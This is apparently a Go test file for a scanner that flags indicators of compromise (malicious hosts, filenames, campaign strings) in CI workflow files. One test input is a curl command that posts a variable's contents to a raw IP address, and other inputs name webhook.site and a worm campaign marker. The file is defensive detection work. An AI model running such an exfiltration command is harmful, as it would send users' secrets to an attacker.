package platform

import (
	"path"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestIndicatorTable(t *testing.T) {
	seen := map[string]bool{}
	for _, i := range indicators {
		key := i.Kind + " " + i.Literal
		if seen[key] {
			t.Errorf("%s: there twice", key)
		}
		seen[key] = true
		if !slices.Contains([]string{"filename", "host", "string", "label"}, i.Kind) || !slices.Contains([]string{"high", "medium"}, i.Confidence) {
			t.Errorf("%s: kind %q, confidence %q", i.Literal, i.Kind, i.Confidence)
		}
		if _, err := time.Parse(time.DateOnly, i.Date); err != nil || i.Campaign == "" || i.Source == "" {
			t.Errorf("%s: %+v", i.Literal, i)
		}
		if len(i.Literal) <= keyBytes || strings.ContainsAny(i.Literal, "\n\r") || strings.Contains(i.Literal, "[.]") {
			t.Errorf("%q: too short, more than one line, or not plain", i.Literal)
		}
		if _, err := path.Match(i.Literal, "x"); i.Kind == "filename" && err != nil {
			t.Errorf("%s: %v", i.Literal, err)
		}
	}
}

// Every literal is found wherever it stands, in any case, and not inside a longer word.
func TestEveryIndicator(t *testing.T) {
	for _, i := range indicators {
		if i.Kind == "filename" {
			name := strings.NewReplacer("[0-9]", "7", "*", "x").Replace(i.Literal)
			if !slices.Contains(LookupFileName(name), i) || !slices.Contains(LookupFileName("sub/"+strings.ToUpper(name)), i) {
				t.Errorf("file name %s is not found", name)
			}
			continue
		}
		text := "run: |\n  x '" + strings.ToUpper(i.Literal) + "'"
		hits := FindIndicators(text)
		at := slices.IndexFunc(hits, func(h IndicatorHit) bool { return h.Indicator == i })
		if at < 0 {
			t.Errorf("%s is not found", i.Literal)
			continue
		}
		if got := text[hits[at].Start:hits[at].End]; !strings.EqualFold(got, i.Literal) {
			t.Errorf("%s: the place holds %q", i.Literal, got)
		}
		first, last := rune(i.Literal[0]), rune(i.Literal[len(i.Literal)-1])
		if isAlnum(first) && isAlnum(last) {
			for _, inside := range []string{"1" + i.Literal, i.Literal + "0"} {
				if slices.ContainsFunc(FindIndicators(inside), func(h IndicatorHit) bool { return h.Indicator == i }) {
					t.Errorf("%s is found inside %s", i.Literal, inside)
				}
			}
		}
	}
}

func TestFindIndicatorsInOrder(t *testing.T) {
	hits := FindIndicators("curl http://193.32.204.199:3000/?c=monami -d \"$X\" # and webhook.site, SHA1HULUD")
	var got []string
	for _, h := range hits {
		got = append(got, h.Literal)
	}
	if want := []string{"193.32.204.199", "/?c=monami", "webhook.site", "sha1hulud"}; !slices.Equal(got, want) {
		t.Errorf("found %q, want %q", got, want)
	}
}

func TestHarmlessText(t *testing.T) {
	for _, text := range []string{"", "x", "name: CI\non: push\n", "uses: github/codeql-action/init@v3", "1193.32.204.1990"} {
		if hits := FindIndicators(text); len(hits) > 0 {
			t.Errorf("%q: %+v", text, hits)
		}
	}
	for _, name := range []string{"", "ci.yml", ".github/workflows/codeql-analysis.yml", ".github/workflows/formatter.yml", "docs/discussion.yaml"} {
		if found := LookupFileName(name); len(found) > 0 {
			t.Errorf("%s: %+v", name, found)
		}
	}
}

func FuzzFindIndicators(f *testing.F) {
	f.Add("curl webhook.site")
	f.Add("SHA1HULUD\x00")
	f.Fuzz(func(t *testing.T, text string) {
		for _, h := range FindIndicators(text) {
			if !strings.EqualFold(text[h.Start:h.End], h.Literal) {
				t.Errorf("%q at %d", h.Literal, h.Start)
			}
		}
		if len(text) < 1000 && len(FindIndicators(text+" webhook.site")) == 0 {
			t.Error("text in front hides a host")
		}
	})
}

func BenchmarkFindIndicators(b *testing.B) {
	text := strings.Repeat("      - uses: actions/checkout@v4\n        run: echo ${{ github.sha }}\n", 150)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		FindIndicators(text)
	}
}
